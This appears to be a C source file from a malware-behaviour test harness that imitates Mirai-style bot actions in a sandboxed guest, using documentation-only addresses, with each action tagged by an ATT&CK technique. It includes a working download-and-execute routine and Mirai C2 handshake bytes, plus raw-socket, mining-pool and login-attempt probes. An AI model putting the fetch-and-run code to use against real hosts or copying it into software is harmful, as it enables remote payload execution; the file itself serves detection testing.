/*
 * Whom a bot talks to; -DACT= one of these. The peers' addresses are those that are kept for
 * documentation (RFC 5737), which belong to nobody. Each act is a connection or two, or one packet.
 */
#include "act.h"
#include "guest.h"

#include <arpa/inet.h>
#include <poll.h>
#include <sys/socket.h>

static const int PATIENCE_MS = 1000;

static struct sockaddr_in at(const char *address, int port)
{
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};

    inet_aton(address, &peer.sin_addr);
    return peer;
}

/* A connection, or -1: nobody waits for an answer longer than a second. */
__attribute__((unused)) static int connected(const char *address, int port)
{
    struct sockaddr_in peer = at(address, port);
    int connection = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), error = 0;
    struct pollfd waiting = {.fd = connection, .events = POLLOUT};
    socklen_t length = sizeof error;

    if (connect(connection, (struct sockaddr *)&peer, sizeof peer) < 0)
        poll(&waiting, 1, PATIENCE_MS);
    if (getsockopt(connection, SOL_SOCKET, SO_ERROR, &error, &length) == 0 && error == 0
        && getpeername(connection, (struct sockaddr *)&peer, &length) == 0)
        return connection;
    close(connection);
    return -1;
}

/* Waits for an answer for a second; returns its length, or -1. */
__attribute__((unused)) static ssize_t answer(int connection, char *bytes, size_t size)
{
    struct pollfd waiting = {.fd = connection, .events = POLLIN};

    return poll(&waiting, 1, PATIENCE_MS) == 1 ? recv(connection, bytes, size, 0) : -1;
}

/* Says something to a server that does not speak first, and waits for an answer. */
__attribute__((unused)) static void ask(const char *address, int port, const char *request)
{
    char bytes[512];
    int server = connected(address, port);

    if (server < 0)
        return;
    if (send(server, request, strlen(request), MSG_NOSIGNAL) > 0)
        answer(server, bytes, sizeof bytes);
    close(server);
}

/* Says one line after the other to a server that speaks first, each when the last was answered. */
__attribute__((unused)) static void converse(const char *address, int port,
                                             const char *const lines[], int count)
{
    char bytes[512];
    int i, server = connected(address, port);

    if (server < 0)
        return;
    for (i = 0; i < count && answer(server, bytes, sizeof bytes) > 0; i++)
        if (send(server, lines[i], strlen(lines[i]), MSG_NOSIGNAL) < 0)
            break;
    close(server);
}

/* The first four bytes that a Mirai bot says to its server (T1571). */
AN_ACT contacts_server(void)
{
    char bytes[64];
    int server = connected("192.0.2.1", 48101);

    if (server < 0)
        return;
    if (send(server, "\0\0\0\1", 4, MSG_NOSIGNAL) == 4)
        answer(server, bytes, sizeof bytes);
    close(server);
}

/* Asks a server of names for the address of one that does not exist (RFC 6761). */
AN_ACT asks_for_name(void)
{
    static const char question[] =
        "\x4d\x41\1\0\0\1\0\0\0\0\0\0\3cnc\7example\0\0\1\0\1"; /* A cnc.example */
    struct sockaddr_in server = at("192.0.2.53", 53);
    char bytes[512];
    int s = socket(AF_INET, SOCK_DGRAM, 0);

    if (sendto(s, question, sizeof question - 1, 0, (struct sockaddr *)&server, sizeof server) > 0)
        answer(s, bytes, sizeof bytes);
    close(s);
}

/* Fetches a program by HTTP, and executes whatever comes (T1105). */
AN_ACT downloads_and_runs(void)
{
    static const char request[] = "GET /bins/malassay.arm7 HTTP/1.0\r\nHost: 192.0.2.7\r\n\r\n";
    char bytes[4096], *body;
    char *arguments[] = {"/tmp/malassay.arm7", NULL}, *environment[] = {NULL};
    int server = connected("192.0.2.7", 80), file;
    ssize_t n;
    int in_body = 0;

    if (server < 0)
        return;
    file = open(arguments[0], O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (file < 0 || send(server, request, sizeof request - 1, MSG_NOSIGNAL) < 0)
        return;
    while ((n = answer(server, bytes, sizeof bytes - 1)) > 0) {
        bytes[n] = '\0';
        body = bytes;
        if (!in_body) {
            body = strstr(bytes, "\r\n\r\n");
            if (!body)
                break;
            body += 4;
            in_body = 1;
        }
        if (write(file, body, (size_t)(bytes + n - body)) < 0)
            break;
    }
    close(file);
    chmod(arguments[0], 0777);
    execve(arguments[0], arguments, environment);
}

/* Sockets by which packets of one's own making are sent, and all others seen; sends none (T1498). */
AN_ACT opens_raw_sockets(void)
{
    socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
    socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
    socket(AF_PACKET, SOCK_RAW, htons(3));
}

/* Holds the port by which Mirai knows that it runs already, and waits on another for a moment. */
AN_ACT listens(void)
{
    static const char *const addresses[] = {"127.0.0.1", "0.0.0.0"};
    static const int ports[] = {48101, 23231};
    struct sockaddr_in own;
    struct pollfd waiting[2];
    int i;

    for (i = 0; i < 2; i++) {
        own = at(addresses[i], ports[i]);
        waiting[i].fd = socket(AF_INET, SOCK_STREAM, 0);
        waiting[i].events = POLLIN;
        if (bind(waiting[i].fd, (struct sockaddr *)&own, sizeof own) == 0)
            listen(waiting[i].fd, 1);
    }
    poll(waiting, 2, 200);
}

/* Says to a pool of miners that it wants work, and works for none (T1496). */
AN_ACT asks_for_mining_work(void)
{
    ask("192.0.2.9", 3333,
        "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"malassay\"]}\n");
}

/* Greets a mail server, and sends no mail (T1071.003). */
AN_ACT greets_mail_server(void)
{
    static const char *const lines[] = {"HELO malassay.example\r\n", "QUIT\r\n"};

    converse("192.0.2.25", 25, lines, 2);
}

/* Names that nobody has, to an FTP server: three, as fast as it answers (T1110.001). */
AN_ACT tries_logins(void)
{
    static const char *const lines[] = {"USER nobody-1\r\n", "PASS none\r\n", "USER nobody-2\r\n",
                                        "PASS none\r\n",     "USER nobody-3\r\n", "PASS none\r\n"};

    converse("192.0.2.21", 21, lines, 6);
}

/* A request without contents, to a port by which routers are taken over (T1190). */
AN_ACT posts_to_router(void)
{
    ask("192.0.2.8", 7547, "POST /malassay HTTP/1.0\r\nContent-Length: 0\r\n\r\n");
}

/* Holds a port of Telnet for a moment, and hears nobody on it (T1489). */
AN_ACT takes_port(void)
{
    struct sockaddr_in own = at("0.0.0.0", 2323);
    int port = socket(AF_INET, SOCK_STREAM, 0);

    if (bind(port, (struct sockaddr *)&own, sizeof own) < 0)
        perror("bind");
    close(port);
}

int main(void)
{
    only_in_a_guest();
    ACT();
    return 0;
}
